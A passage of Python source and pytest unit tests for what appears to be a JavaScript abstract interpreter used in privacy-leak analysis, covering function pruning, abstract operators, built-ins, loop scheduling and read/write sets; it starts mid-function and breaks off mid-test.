    """
    if degraded:
        decision = PruneDecision(pruned=False, reason=REASON_DEGRADED)
        return PruneResult(programs=programs, decision=decision, pruned_nodes=0)
    if dynamic_code:
        decision = PruneDecision(pruned=False, reason=REASON_DYNAMIC_CODE)
        return PruneResult(programs=programs, decision=decision, pruned_nodes=0)
    if residual_dynamic_sites:
        decision = PruneDecision(pruned=False, reason=REASON_DYNAMIC_PROPERTIES)
        return PruneResult(programs=programs, decision=decision, pruned_nodes=0)
    resolved = resolved if resolved is not None else {}

    # Candidates: top-level declarations, keyed by name. Two candidates
    # may share a name (later one wins at runtime); liveness treats the
    # name once — mentioned keeps both, unmentioned prunes both.
    candidates: list[tuple[js_ast.Program, js_ast.FunctionDeclaration]] = []
    for program in programs:
        for statement in program.body:
            if isinstance(statement, js_ast.FunctionDeclaration):
                candidates.append((program, statement))
    if not candidates:
        decision = PruneDecision(pruned=True, reason=REASON_OK)
        return PruneResult(programs=programs, decision=decision, pruned_nodes=0)

    candidate_names = {declaration.name for _program, declaration in candidates}

    # Fixpoint: a candidate is live when its name is mentioned by any
    # live statement. Non-candidate top-level statements are always
    # live; a live candidate's body counts as live code (it may hold the
    # only mention of another candidate).
    live_names: set[str] = set()
    base_mentions: set[str] = set()
    for program in programs:
        for statement in program.body:
            if not isinstance(statement, js_ast.FunctionDeclaration):
                base_mentions.update(_mentioned_names(statement, resolved))
    body_mentions = {
        id(declaration): _mentioned_names(declaration, resolved)
        for _program, declaration in candidates
    }

    frontier = candidate_names & base_mentions
    while frontier:
        live_names.update(frontier)
        newly: set[str] = set()
        for _program, declaration in candidates:
            if declaration.name in live_names:
                newly.update(body_mentions[id(declaration)])
        frontier = (candidate_names & newly) - live_names

    removed: list[str] = []
    pruned_nodes = 0
    new_programs: list[js_ast.Program] = []
    for program in programs:
        body: list[js_ast.Statement] = []
        changed = False
        for statement in program.body:
            if (
                isinstance(statement, js_ast.FunctionDeclaration)
                and statement.name not in live_names
            ):
                removed.append(statement.name)
                pruned_nodes += js_ast.node_count(statement)
                changed = True
            else:
                body.append(statement)
        new_programs.append(replace(program, body=body) if changed else program)

    decision = PruneDecision(pruned=True, reason=REASON_OK)
    return PruneResult(
        programs=tuple(new_programs),
        decision=decision,
        pruned_nodes=pruned_nodes,
        removed=tuple(sorted(removed)),
    )
