"""Unit tests for the abstract JS operators (transfer functions)."""

import math

import pytest
from hypothesis import given
from hypothesis import strategies as st

from repro.analysis.transfer import binary_op, truthy_outcomes, unary_op
from repro.domains import bools
from repro.domains import prefix as p
from repro.domains import values as v


class TestPlus:
    def test_number_addition(self):
        result = binary_op("+", v.from_constant(2.0), v.from_constant(3.0))
        assert result.number.concrete() == 5.0
        assert result.string.is_bottom

    def test_string_concatenation(self):
        result = binary_op("+", v.from_constant("a"), v.from_constant("b"))
        assert result.string == p.exact("ab")
        assert result.number.is_bottom

    def test_string_number_coerces(self):
        result = binary_op("+", v.from_constant("n="), v.from_constant(4.0))
        assert result.string == p.exact("n=4")

    def test_undefined_plus_number_is_nan(self):
        result = binary_op("+", v.UNDEF, v.from_constant(1.0))
        assert math.isnan(result.number.concrete())

    def test_ambiguous_operand_joins_outcomes(self):
        stringy_or_numbery = v.from_constant("s").join(v.from_constant(1.0))
        result = binary_op("+", stringy_or_numbery, v.from_constant(2.0))
        assert not result.string.is_bottom
        assert not result.number.is_bottom

    def test_prefix_propagates(self):
        base = v.from_string(p.exact("http://x/"))
        result = binary_op("+", base, v.ANY_STRING)
        assert result.string == p.prefix("http://x/")


class TestArithmeticAndComparison:
    def test_subtraction_constant(self):
        assert binary_op("-", v.from_constant(9.0), v.from_constant(4.0)).number.concrete() == 5.0

    def test_string_coerced_to_number_for_minus(self):
        result = binary_op("-", v.from_constant("10"), v.from_constant(4.0))
        assert result.number.concrete() == 6.0

    def test_less_than_constants(self):
        assert binary_op("<", v.from_constant(1.0), v.from_constant(2.0)).boolean is bools.TRUE

    def test_equality_same_constant_strings(self):
        assert binary_op("==", v.from_constant("x"), v.from_constant("x")).boolean is bools.TRUE

    def test_equality_distinct_constants(self):
        assert binary_op("===", v.from_constant("x"), v.from_constant("y")).boolean is bools.FALSE

    def test_comparison_with_unknown_is_top(self):
        assert binary_op("<", v.ANY_NUMBER, v.from_constant(2.0)).boolean is bools.TOP

    def test_undefined_equals_undefined(self):
        assert binary_op("==", v.UNDEF, v.UNDEF).boolean is bools.TRUE

    def test_undefined_not_equal_null_kept_imprecise(self):
        # We model undefined/null as distinct sentinels; == on them is
        # (soundly) imprecise only when values mix kinds.
        result = binary_op("==", v.UNDEF, v.NULL)
        assert result.boolean in (bools.FALSE, bools.TOP)

    def test_in_operator_unknown(self):
        assert binary_op("in", v.from_constant("k"), v.from_addresses(1)).boolean is bools.TOP

    def test_bottom_absorbs(self):
        assert binary_op("+", v.BOTTOM, v.from_constant(1.0)).is_bottom


class TestUnary:
    def test_not_definite(self):
        assert unary_op("!", v.from_constant(0.0)).boolean == bools.TRUE
        assert unary_op("!", v.from_constant(1.0)).boolean == bools.FALSE

    def test_not_unknown(self):
        assert unary_op("!", v.ANY_STRING).boolean == bools.TOP

    def test_negate_constant(self):
        assert unary_op("-", v.from_constant(3.0)).number.concrete() == -3.0

    def test_plus_coerces_string(self):
        assert unary_op("+", v.from_constant("12")).number.concrete() == 12.0

    def test_bitwise_not(self):
        assert unary_op("~", v.from_constant(0.0)).number.concrete() == -1.0

    def test_void_is_undefined(self):
        assert unary_op("void", v.from_constant(1.0)) == v.UNDEF

    def test_typeof_string(self):
        assert unary_op("typeof", v.from_constant("s")).string == p.exact("string")

    def test_typeof_number(self):
        assert unary_op("typeof", v.from_constant(1.0)).string == p.exact("number")

    def test_typeof_undefined(self):
        assert unary_op("typeof", v.UNDEF).string == p.exact("undefined")

    def test_typeof_null_is_object(self):
        assert unary_op("typeof", v.NULL).string == p.exact("object")

    def test_typeof_mixed_joins(self):
        mixed = v.from_constant("s").join(v.from_constant(1.0))
        result = unary_op("typeof", mixed)
        assert result.string.concrete() is None


class TestTruthyOutcomes:
    def test_definite_true(self):
        assert truthy_outcomes(v.from_constant(5.0)) == (True, False)

    def test_definite_false(self):
        assert truthy_outcomes(v.from_constant("")) == (False, True)

    def test_unknown(self):
        assert truthy_outcomes(v.ANY_BOOL) == (True, True)


_values = st.one_of(
    st.just(v.UNDEF),
    st.just(v.NULL),
    st.builds(v.from_constant, st.floats(allow_nan=False, width=16)),
    st.builds(v.from_constant, st.text(alphabet="ab1", max_size=4)),
    st.builds(v.from_constant, st.booleans()),
)


class TestSoundnessProperties:
    @given(_values, _values)
    def test_plus_monotone_under_join(self, a, b):
        # Abstracting more inputs never loses results: op(a,b) ⊑ op(a⊔b, b).
        precise = binary_op("+", a, b)
        blurred = binary_op("+", a.join(b), b)
        assert precise.number.leq(blurred.number) or blurred.number.is_top
        assert precise.string.leq(blurred.string) or blurred.string.is_top

    @given(_values)
    def test_not_not_preserves_truthiness(self, a):
        once = unary_op("!", a)
        twice = unary_op("!", once)
        may_true, may_false = truthy_outcomes(a)
        assert twice.boolean.may_true == may_true
        assert twice.boolean.may_false == may_false

    @given(_values, _values)
    def test_comparison_yields_boolean(self, a, b):
        for operator in ("<", ">", "==", "!=", "===", "<=", ">="):
            result = binary_op(operator, a, b)
            assert result.string.is_bottom and result.number.is_bottom
            assert not result.addresses
