"""Unit tests for the language built-ins (string/array methods, global
functions) as observed through the interpreter."""

import pytest

from repro.analysis import analyze
from repro.domains import prefix as p
from repro.ir import lower
from repro.ir.nodes import GLOBAL_SCOPE, Var
from repro.js import parse


def run(source):
    program = lower(parse(source), event_loop=False)
    return program, analyze(program)


def value_of(source, name="x"):
    program, result = run(source)
    return result.atom_value_joined(program.main.exit.sid, Var(name, GLOBAL_SCOPE))


class TestStringMethods:
    def test_substring_constant(self):
        assert value_of("var x = 'hello'.substring(1, 3);").string == p.exact("el")

    def test_substring_to_end(self):
        assert value_of("var x = 'hello'.substring(2);").string == p.exact("llo")

    def test_char_at(self):
        assert value_of("var x = 'abc'.charAt(1);").string == p.exact("b")

    def test_char_at_out_of_range(self):
        assert value_of("var x = 'abc'.charAt(9);").string == p.exact("")

    def test_replace_first_occurrence(self):
        assert value_of("var x = 'aXbX'.replace('X', '-');").string == p.exact("a-bX")

    def test_to_upper(self):
        assert value_of("var x = 'abc'.toUpperCase();").string == p.exact("ABC")

    def test_to_lower_prefix_preserving(self):
        value = value_of("var x = ('ABC' + unknown()).toLowerCase();")
        assert value.string == p.prefix("abc")

    def test_split_yields_array_of_strings(self):
        value = value_of("var x = 'a,b'.split(',')[0];")
        assert value.string.is_top

    def test_index_of_found(self):
        assert value_of("var x = 'hello'.indexOf('llo');").number.concrete() == 2.0

    def test_index_of_missing_is_minus_one(self):
        assert value_of("var x = 'hello'.indexOf('zz');").number.concrete() == -1.0

    def test_method_on_unknown_string_is_sound(self):
        value = value_of("var x = unknownStr().substring(0, 4);")
        # unknownStr() is unresolved -> any value; substring on it must
        # still produce a string-ish result, not bottom.
        assert not value.is_bottom


class TestGlobalFunctions:
    def test_parse_int_constant(self):
        assert value_of("var x = parseInt('42', 10);").number.concrete() == 42.0

    def test_parse_int_garbage_is_nan(self):
        value = value_of("var x = parseInt('xyz', 10);")
        concrete = value.number.concrete()
        assert concrete != concrete  # NaN

    def test_encode_uri_component_exact(self):
        assert value_of(
            "var x = encodeURIComponent('a b/c');"
        ).string == p.exact("a%20b%2Fc")

    def test_decode_uri_component(self):
        assert value_of(
            "var x = decodeURIComponent('a%20b');"
        ).string == p.exact("a b")

    def test_string_constructor(self):
        assert value_of("var x = String(12);").string == p.exact("12")

    def test_is_nan_unknown_bool(self):
        value = value_of("var x = isNaN(someNumber());")
        assert value.boolean.is_top


class TestMathAndJson:
    def test_math_methods_are_numbers(self):
        for method in ("random()", "floor(1.5)", "abs(0 - 2)", "max(1, 2)"):
            value = value_of(f"var x = Math.{method};")
            assert not value.number.is_bottom

    def test_json_stringify_is_string(self):
        value = value_of("var x = JSON.stringify({a: 1});")
        assert value.string.is_top

    def test_json_parse_is_unknown(self):
        value = value_of("var x = JSON.parse('{}');")
        assert not value.is_bottom


class TestArrayMethods:
    def test_push_then_read(self):
        value = value_of("var a = []; a.push('v'); var x = a[0];")
        assert value.string.admits("v")

    def test_pop_returns_element(self):
        value = value_of("var a = ['e']; var x = a.pop();")
        assert value.string.admits("e")

    def test_slice_returns_array_with_same_elements(self):
        value = value_of("var a = ['e']; var x = a.slice(0)[0];")
        assert value.string.admits("e")

    def test_join_returns_string(self):
        value = value_of("var a = ['x', 'y']; var x = a.join(',');")
        assert value.string.is_top

    def test_length_after_literal(self):
        value = value_of("var a = ['x', 'y']; var x = a.length;")
        assert value.number.concrete() == 2.0
