"""The weak-topological-order scheduler behind the fixpoint worklist.

``build_schedule`` condenses the flow graph into SCCs, ranks the
condensation topologically (min-sid tie-break, so the order refines
plain statement order), and designates one widening point per cyclic
component. These tests pin those structural properties on real lowered
programs — straight-line code, loops, nested loops, self-recursion —
plus the interpreter-facing counters.
"""

from repro.analysis import analyze
from repro.analysis.wto import build_schedule
from repro.ir import lower
from repro.js import parse


def schedule_of(source, event_loop=False):
    program = lower(parse(source), event_loop=event_loop)
    return program, build_schedule(program)


def assert_edges_respect_ranks(program, schedule):
    """Every flow edge goes rank-forward, except edges inside one SCC
    (which share a rank) — the defining property of a WTO."""
    for sid, stmt in program.stmts.items():
        for edge in stmt.edges:
            if edge.target in schedule.rank:
                assert schedule.rank[sid] <= schedule.rank[edge.target], (
                    f"edge {sid}->{edge.target} goes rank-backward"
                )


class TestStraightLine:
    def test_every_statement_ranked(self):
        program, schedule = schedule_of("var a = 1; var b = a + 1; send(b);")
        assert set(schedule.rank) == set(program.stmts)

    def test_acyclic_code_has_no_heads(self):
        _, schedule = schedule_of("var a = 1; if (a) { a = 2; } send(a);")
        assert schedule.heads == frozenset()
        assert schedule.cyclic_components == 0

    def test_acyclic_components_are_singletons(self):
        program, schedule = schedule_of("var a = 1; var b = a;")
        # One component per statement: ranks are a permutation.
        assert schedule.components == len(program.stmts)
        assert sorted(schedule.rank.values()) == list(range(len(program.stmts)))

    def test_ranks_refine_statement_order(self):
        # With no cycles forcing otherwise, the min-sid tie-break keeps
        # the schedule aligned with statement order.
        program, schedule = schedule_of("var a = 1; var b = a; var c = b;")
        sids = sorted(program.stmts)
        ranks = [schedule.rank[sid] for sid in sids]
        assert ranks == sorted(ranks)

    def test_edges_respect_ranks(self):
        program, schedule = schedule_of(
            "var a = 1; if (a) { a = 2; } else { a = 3; } send(a);"
        )
        assert_edges_respect_ranks(program, schedule)


class TestLoops:
    def test_while_loop_designates_one_head(self):
        _, schedule = schedule_of(
            "var i = 0; while (i < 3) { i = i + 1; } send(i);"
        )
        assert schedule.cyclic_components == 1
        assert len(schedule.heads) == 1

    def test_loop_head_is_smallest_sid_of_its_component(self):
        program, schedule = schedule_of(
            "var i = 0; while (i < 3) { i = i + 1; }"
        )
        [head] = schedule.heads
        head_rank = schedule.rank[head]
        component = [
            sid for sid, rank in schedule.rank.items() if rank == head_rank
        ]
        assert head == min(component)
        assert len(component) > 1

    def test_loop_body_shares_one_rank(self):
        program, schedule = schedule_of(
            "var i = 0; while (i < 3) { var a = i; var b = a; i = b + 1; }"
        )
        # The whole cycle collapses into one component, so the number of
        # distinct ranks is the component count, not the statement count.
        assert schedule.components < len(program.stmts)
        assert schedule.components == len(set(schedule.rank.values()))
        assert_edges_respect_ranks(program, schedule)

    def test_nested_loops_one_head_per_cycle(self):
        _, schedule = schedule_of(
            "var i = 0;"
            "while (i < 3) {"
            "  var j = 0;"
            "  while (j < 3) { j = j + 1; }"
            "  i = i + 1;"
            "}"
        )
        # Both loops share the outer cycle's SCC in the static flow
        # graph only if the inner loop flows back into it — here the
        # inner loop is a sub-cycle of the outer component, so Tarjan
        # merges them into one SCC: a single head.  The invariant worth
        # pinning is one head per *cyclic component*.
        assert schedule.cyclic_components == len(schedule.heads)
        assert schedule.cyclic_components >= 1

    def test_sequential_loops_get_separate_heads(self):
        _, schedule = schedule_of(
            "var i = 0; while (i < 3) { i = i + 1; }"
            "var j = 0; while (j < 3) { j = j + 1; }"
        )
        assert schedule.cyclic_components == 2
        assert len(schedule.heads) == 2


class TestRecursionAndSelfLoops:
    def test_recursion_is_not_a_static_cycle(self):
        program, schedule = schedule_of(
            "function f(n) { if (n) { f(n - 1); } return n; } f(3);"
        )
        # Call and return edges are resolved *during* the analysis (they
        # depend on which closures flow to the call site), so they are
        # not part of the static flow graph the WTO is built from:
        # recursion re-enqueues through the worklist, not through a
        # ranked cycle, and the static schedule stays acyclic here.
        assert schedule.cyclic_components == 0
        assert set(schedule.rank) == set(program.stmts)

    def test_counters_reach_the_interpreter(self):
        program = lower(
            parse("var i = 0; while (i < 3) { i = i + 1; }"),
            event_loop=False,
        )
        result = analyze(program)
        schedule = build_schedule(program)
        assert result.counters["wto_components"] == schedule.components
        assert result.counters["widening_points"] == len(schedule.heads)


class TestDeterminism:
    def test_schedule_is_deterministic(self):
        source = (
            "var i = 0; while (i < 3) { i = i + 1; }"
            "function f(n) { return n; } send(f(i));"
        )
        program = lower(parse(source), event_loop=False)
        first = build_schedule(program)
        second = build_schedule(program)
        assert first.rank == second.rank
        assert first.heads == second.heads
        assert first.components == second.components
