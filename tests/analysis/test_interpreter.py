"""Tests for the abstract interpreter (base analysis)."""

import pytest

from repro.analysis import analyze
from repro.domains import prefix as p
from repro.ir import lower
from repro.ir.nodes import GLOBAL_SCOPE, CallStmt, StorePropStmt, Var
from repro.js import parse


def run(source, k=1, event_loop=False):
    program = lower(parse(source), event_loop=event_loop)
    return program, analyze(program, k=k)


def global_value(program, result, name):
    exit_sid = program.main.exit.sid
    return result.atom_value_joined(exit_sid, Var(name, GLOBAL_SCOPE))


class TestConstantsAndArithmetic:
    def test_constant_propagation(self):
        program, result = run("var x = 1 + 2 * 3;")
        assert global_value(program, result, "x").number.concrete() == 7.0

    def test_string_constant(self):
        program, result = run("var s = 'a' + 'b';")
        assert global_value(program, result, "s").string == p.exact("ab")

    def test_undeclared_global_is_undefined(self):
        program, result = run("var x = y;")
        assert global_value(program, result, "x").may_undef

    def test_number_string_concat(self):
        program, result = run("var s = 'v' + 1;")
        assert global_value(program, result, "s").string == p.exact("v1")

    def test_comparison_constant_folds(self):
        program, result = run("var b = 1 < 2;")
        assert global_value(program, result, "b").boolean.concrete() is True


class TestBranching:
    def test_definite_branch_prunes_dead_arm(self):
        program, result = run(
            "var x; if (true) x = 'live'; else x = 'dead';"
        )
        assert global_value(program, result, "x").string == p.exact("live")

    def test_unknown_branch_joins(self):
        program, result = run(
            "var x; if (Math.random()) x = 'a'; else x = 'b';"
        )
        value = global_value(program, result, "x")
        assert value.string.concrete() is None
        assert value.string.admits("a") and value.string.admits("b")

    def test_logical_or_polarity(self):
        # `false || x` evaluates x; result is the rhs.
        program, result = run("var r = false || 'rhs';")
        assert global_value(program, result, "r").string.admits("rhs")

    def test_paper_prefix_example(self):
        program, result = run(
            """
            var baseURL = "www.example.com/req?";
            if (Math.random()) baseURL += "name";
            else baseURL += "age";
            """
        )
        value = global_value(program, result, "baseURL")
        assert value.string == p.prefix("www.example.com/req?")


class TestLoops:
    def test_while_loop_converges(self):
        program, result = run(
            "var i = 0; while (Math.random()) { i = i + 1; }"
        )
        assert global_value(program, result, "i").number.is_top

    def test_string_growth_converges_to_prefix(self):
        program, result = run(
            "var s = 'base'; while (Math.random()) { s = s + 'x'; }"
        )
        value = global_value(program, result, "s")
        assert value.string == p.prefix("base")

    def test_for_loop(self):
        program, result = run(
            "var total = 0; for (var i = 0; i < 3; i++) total += i;"
        )
        # i joins to top, so the loop body runs abstractly; total is a number.
        assert not global_value(program, result, "total").number.is_bottom

    def test_for_in_binds_string(self):
        program, result = run(
            "var o = {a: 1}; var k; for (k in o) {}"
        )
        value = global_value(program, result, "k")
        # may be a string (some property) or undefined (empty object path)
        assert value.string.is_top or value.may_undef


class TestObjects:
    def test_object_literal_property(self):
        program, result = run("var o = { url: 'x' }; var u = o.url;")
        assert global_value(program, result, "u").string == p.exact("x")

    def test_strong_update_replaces(self):
        program, result = run("var o = {}; o.p = 1; o.p = 'two'; var x = o.p;")
        value = global_value(program, result, "x")
        assert value.number.is_bottom
        assert value.string == p.exact("two")

    def test_computed_property_with_unknown_key(self):
        program, result = run(
            "var o = {a: 'va', b: 'vb'}; var x = o[unknownName()];"
        )
        value = global_value(program, result, "x")
        # Unknown key: both properties (joined) plus possibly undefined.
        assert value.may_undef

    def test_array_elements(self):
        program, result = run("var a = ['x', 'y']; var e = a[0];")
        assert global_value(program, result, "e").string == p.exact("x")

    def test_array_unknown_index_joins_elements(self):
        program, result = run(
            "var a = ['x', 'y']; var e = a[unknownIndex()];"
        )
        value = global_value(program, result, "e")
        assert value.string.admits("x") and value.string.admits("y")

    def test_nested_objects(self):
        program, result = run(
            "var o = { inner: { deep: 'v' } }; var d = o.inner.deep;"
        )
        assert global_value(program, result, "d").string == p.exact("v")


class TestFunctions:
    def test_call_returns_value(self):
        program, result = run("function f() { return 'r'; } var x = f();")
        assert global_value(program, result, "x").string == p.exact("r")

    def test_arguments_flow(self):
        program, result = run("function id(v) { return v; } var x = id('arg');")
        assert global_value(program, result, "x").string == p.exact("arg")

    def test_missing_argument_is_undefined(self):
        program, result = run("function f(a) { return a; } var x = f();")
        assert global_value(program, result, "x").may_undef

    def test_no_return_gives_undefined(self):
        program, result = run("function f() {} var x = f();")
        assert global_value(program, result, "x").may_undef

    def test_closure_reads_outer(self):
        program, result = run(
            """
            function outer() {
                var captured = 'c';
                function inner() { return captured; }
                return inner();
            }
            var x = outer();
            """
        )
        assert global_value(program, result, "x").string.admits("c")

    def test_function_passed_as_value(self):
        program, result = run(
            "function real() { return 'v'; } var alias = real; var x = alias();"
        )
        assert global_value(program, result, "x").string == p.exact("v")

    def test_recursion_converges(self):
        program, result = run(
            "function f(n) { if (n < 1) return 0; return f(n - 1); } var x = f(3);"
        )
        assert not global_value(program, result, "x").is_bottom
        assert result.multi_instance  # f detected as recursive

    def test_context_sensitivity_separates_call_sites(self):
        program, result = run(
            "function id(v) { return v; } var a = id('a'); var b = id('b');",
            k=1,
        )
        assert global_value(program, result, "a").string == p.exact("a")
        assert global_value(program, result, "b").string == p.exact("b")

    def test_context_insensitive_merges_call_sites(self):
        program, result = run(
            "function id(v) { return v; } var a = id('a'); var b = id('b');",
            k=0,
        )
        # With k=0 both call sites share one context: values merge.
        value = global_value(program, result, "a")
        assert value.string.concrete() is None

    def test_constructor_creates_object(self):
        program, result = run(
            "function Box(v) { this.value = v; } var b = new Box('x'); var x = b.value;"
        )
        assert global_value(program, result, "x").string.admits("x")

    def test_method_call_this_binding(self):
        program, result = run(
            """
            var obj = { tag: 't', get: function() { return this.tag; } };
            var x = obj.get();
            """
        )
        assert global_value(program, result, "x").string.admits("t")


class TestBuiltins:
    def test_string_method_tolowercase(self):
        program, result = run("var s = 'ABC'.toLowerCase();")
        assert global_value(program, result, "s").string == p.exact("abc")

    def test_string_concat_method(self):
        program, result = run("var s = 'a'.concat('b', 'c');")
        assert global_value(program, result, "s").string == p.exact("abc")

    def test_string_length(self):
        program, result = run("var n = 'abcd'.length;")
        assert global_value(program, result, "n").number.concrete() == 4.0

    def test_index_of_constant(self):
        program, result = run("var i = 'hello'.indexOf('ll');")
        assert global_value(program, result, "i").number.concrete() == 2.0

    def test_encode_uri_component_preserves_prefix(self):
        program, result = run(
            "var u = encodeURIComponent('http://x.com/' + unknown());"
        )
        value = global_value(program, result, "u")
        assert value.string.text.startswith("http%3A%2F%2Fx.com%2F")
        assert not value.string.is_exact

    def test_math_random_is_unknown_number(self):
        program, result = run("var r = Math.random();")
        assert global_value(program, result, "r").number.is_top

    def test_array_push_flows_to_elements(self):
        program, result = run(
            "var a = []; a.push('pushed'); var e = a[0];"
        )
        assert global_value(program, result, "e").string.admits("pushed")


class TestExceptions:
    def test_throw_caught_value_flows(self):
        program, result = run(
            "var x; try { throw 'boom'; } catch (e) { x = e; }"
        )
        assert global_value(program, result, "x").string.admits("boom")

    def test_implicit_throw_recorded(self):
        program, result = run(
            "var o; try { o.prop = 1; } catch (e) {}"
        )
        store = next(
            s for s in program.stmts.values() if isinstance(s, StorePropStmt)
        )
        assert store.sid in result.throwing

    def test_no_implicit_throw_on_known_object(self):
        program, result = run(
            "var o = {}; try { o.prop = 1; } catch (e) {}"
        )
        store = next(
            s for s in program.stmts.values()
            if isinstance(s, StorePropStmt) and s.prop.value == "prop"
        )
        assert store.sid not in result.throwing

    def test_unknown_callee_recorded(self):
        program, result = run("mysteryGlobalFn(1);")
        call = next(s for s in program.stmts.values() if isinstance(s, CallStmt))
        assert call.sid in result.unknown_callees

    def test_call_of_undefined_is_throwing(self):
        program, result = run("var f; f();")
        call = next(s for s in program.stmts.values() if isinstance(s, CallStmt))
        assert call.sid in result.throwing


class TestSection2Examples:
    """The two privacy-leak examples of the paper's Section 2, minus the
    browser environment (plain globals stand in for the APIs)."""

    def test_explicit_flow_example_shape(self):
        program, result = run(
            """
            function ajax(params) {
                var data = params["data"];
                return "url is: " + data;
            }
            var msg = ajax({ data: "http://secret.example/page" });
            """
        )
        value = global_value(program, result, "msg")
        assert value.string == p.exact("url is: http://secret.example/page")

    def test_implicit_flow_example_shape(self):
        program, result = run(
            """
            var seen = false;
            if (currentUrl() == "sensitive.com")
                seen = true;
            var out = seen;
            """
        )
        value = global_value(program, result, "out")
        assert value.boolean.may_true and value.boolean.may_false


class TestJumpStatementFlow:
    """Regression tests: abstract state must survive break/continue jumps
    (an early version dropped states at break statements, silently
    under-analyzing everything after a break-terminated loop)."""

    def test_state_flows_through_break(self):
        program, result = run(
            """
            var found = "no";
            while (Math.random()) {
                if (Math.random()) {
                    found = "yes";
                    break;
                }
            }
            var witness = found;
            """
        )
        value = global_value(program, result, "witness")
        assert value.string.admits("yes") and value.string.admits("no")

    def test_state_flows_through_continue(self):
        program, result = run(
            """
            var count = 0;
            while (Math.random()) {
                if (Math.random()) {
                    count = count + 1;
                    continue;
                }
                count = count + 2;
            }
            var witness = count;
            """
        )
        assert not global_value(program, result, "witness").is_bottom

    def test_break_inside_for_loop(self):
        program, result = run(
            """
            var hasDigit = false;
            for (var i = 0; i < unknownLength(); i++) {
                if (Math.random()) {
                    hasDigit = true;
                    break;
                }
            }
            var witness = hasDigit;
            """
        )
        value = global_value(program, result, "witness")
        assert value.boolean.may_true and value.boolean.may_false

    def test_labeled_break_flows(self):
        program, result = run(
            """
            var seen = "no";
            outer: while (Math.random()) {
                while (Math.random()) {
                    seen = "inner";
                    break outer;
                }
            }
            var witness = seen;
            """
        )
        assert global_value(program, result, "witness").string.admits("inner")
