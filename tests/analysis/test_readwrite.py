"""Tests for read/write set extraction (strong/weak qualification)."""

from repro.analysis import EMPTY_CONTEXT, RETURN_SLOT, ReadWriteSets, analyze
from repro.ir import lower
from repro.ir.nodes import (
    GLOBAL_SCOPE,
    AssignStmt,
    CallStmt,
    LoadPropStmt,
    ReturnStmt,
    StorePropStmt,
    Var,
)
from repro.js import parse


def setup(source, k=1, event_loop=False):
    program = lower(parse(source), event_loop=event_loop)
    result = analyze(program, k=k)
    return program, result, ReadWriteSets(result)


def find(program, stmt_type, predicate=lambda s: True):
    for sid in sorted(program.stmts):
        stmt = program.stmts[sid]
        if isinstance(stmt, stmt_type) and predicate(stmt):
            return stmt
    raise AssertionError(f"no {stmt_type.__name__}")


class TestVariableSets:
    def test_assign_writes_target_strong(self):
        program, result, rw = setup("var x = 1;")
        stmt = find(program, AssignStmt)
        sets = rw.of(stmt.sid, EMPTY_CONTEXT)
        assert sets.write_vars[(GLOBAL_SCOPE, "x")] is True

    def test_assign_reads_operands(self):
        program, result, rw = setup("var a = 1; var b = 2; var c = a + b;")
        # `a + b` is flattened into a temp-assigning binop statement.
        stmt = find(
            program, AssignStmt,
            lambda s: hasattr(s.rhs, "operator") and s.rhs.operator == "+",
        )
        sets = rw.of(stmt.sid, EMPTY_CONTEXT)
        assert (GLOBAL_SCOPE, "a") in sets.read_vars
        assert (GLOBAL_SCOPE, "b") in sets.read_vars

    def test_local_write_strong_in_nonrecursive_function(self):
        program, result, rw = setup("function f() { var x = 1; return x; } f();")
        stmt = find(
            program, AssignStmt,
            lambda s: isinstance(s.target, Var) and s.target.name == "x",
        )
        contexts = result.contexts(stmt.sid)
        sets = rw.of(stmt.sid, contexts[0])
        assert sets.write_vars[(1, "x")] is True

    def test_recursive_function_locals_weak(self):
        program, result, rw = setup(
            "function f(n) { var x = n; if (n > 0) f(n - 1); return x; } f(2);"
        )
        stmt = find(
            program, AssignStmt,
            lambda s: isinstance(s.target, Var) and s.target.name == "x",
        )
        contexts = result.contexts(stmt.sid)
        sets = rw.of(stmt.sid, contexts[0])
        assert sets.write_vars[(1, "x")] is False

    def test_captured_variable_write_weak(self):
        program, result, rw = setup(
            """
            function outer() {
                var captured = 0;
                function inner() { captured = 1; }
                inner();
            }
            outer();
            """
        )
        stmt = find(
            program, AssignStmt,
            lambda s: isinstance(s.target, Var) and s.target.name == "captured"
            and program.owner[s.sid] != 1,
        )
        contexts = result.contexts(stmt.sid)
        sets = rw.of(stmt.sid, contexts[0])
        assert sets.write_vars[(1, "captured")] is False


class TestPropertySets:
    def test_store_exact_singleton_is_strong(self):
        program, result, rw = setup("var o = {}; o.p = 1;")
        stmt = find(program, StorePropStmt, lambda s: s.prop.value == "p")
        sets = rw.of(stmt.sid, EMPTY_CONTEXT)
        assert len(sets.write_props) == 1
        assert sets.write_props[0].strong is True
        assert sets.write_props[0].name.concrete() == "p"

    def test_store_computed_unknown_key_is_weak(self):
        program, result, rw = setup("var o = {}; o[unknownKey()] = 1;")
        stmt = find(program, StorePropStmt)
        sets = rw.of(stmt.sid, EMPTY_CONTEXT)
        assert sets.write_props[0].strong is False

    def test_store_on_looped_allocation_is_weak(self):
        program, result, rw = setup(
            "var o; while (Math.random()) { o = {}; o.p = 1; }"
        )
        stmt = find(program, StorePropStmt, lambda s: s.prop.value == "p")
        sets = rw.of(stmt.sid, EMPTY_CONTEXT)
        # The allocation site re-executes: no longer a singleton.
        assert all(not access.strong for access in sets.write_props)

    def test_load_reads_prop_pair(self):
        program, result, rw = setup("var o = {p: 1}; var x = o.p;")
        stmt = find(program, LoadPropStmt, lambda s: s.prop.value == "p")
        sets = rw.of(stmt.sid, EMPTY_CONTEXT)
        assert len(sets.read_props) == 1
        assert sets.read_props[0].strong is True

    def test_load_from_two_possible_objects_is_weak(self):
        program, result, rw = setup(
            """
            var o;
            if (Math.random()) o = {p: 1}; else o = {p: 2};
            var x = o.p;
            """
        )
        stmt = find(program, LoadPropStmt, lambda s: s.prop.value == "p")
        sets = rw.of(stmt.sid, EMPTY_CONTEXT)
        assert len(sets.read_props) == 2
        assert all(not access.strong for access in sets.read_props)


class TestInterproceduralSets:
    def test_call_writes_params_and_reads_return(self):
        program, result, rw = setup("function f(a) { return a; } var x = f(1);")
        stmt = find(program, CallStmt)
        sets = rw.of(stmt.sid, EMPTY_CONTEXT)
        assert sets.write_vars[(1, "a")] is True
        assert sets.read_vars[(1, RETURN_SLOT)] is True

    def test_return_writes_slot(self):
        program, result, rw = setup("function f() { return 1; } f();")
        stmt = find(program, ReturnStmt)
        contexts = result.contexts(stmt.sid)
        sets = rw.of(stmt.sid, contexts[0])
        assert (1, RETURN_SLOT) in sets.write_vars

    def test_multiple_callees_params_weak(self):
        program, result, rw = setup(
            """
            function f(a) { return a; }
            function g(a) { return a; }
            var h;
            if (Math.random()) h = f; else h = g;
            h(1);
            """
        )
        stmt = find(
            program, CallStmt,
            lambda s: isinstance(s.callee, Var) and s.callee.name == "h",
        )
